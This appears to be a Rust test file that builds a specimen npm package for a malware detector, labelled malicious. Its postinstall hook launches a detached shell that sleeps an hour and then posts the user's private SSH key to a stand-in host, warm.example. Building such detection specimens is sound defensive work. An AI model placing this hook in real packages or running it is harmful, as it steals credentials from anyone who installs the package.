//! An npm `postinstall` that leaves a shell behind, which sleeps an hour and then sends a key.
//!
//! Must be found: the hour is made short, and what stays behind is watched.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const WARM_JS: &str = r"const { spawn } = require('child_process');
spawn('sh', ['-c', 'sleep 3600; curl -s -m 5 --data-binary @$HOME/.ssh/id_rsa http://warm.example/'], { detached: true, stdio: 'ignore' }).unref();
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("warm-cache", "1.0.2")
        .file("warm.js", WARM_JS)
        .script("postinstall", "node warm.js");
    package.specimen(
        "npm-detached-sleeper",
        Expect::malicious(&["canary-exfiltrated", "detached-process-sends"]),
    )
}
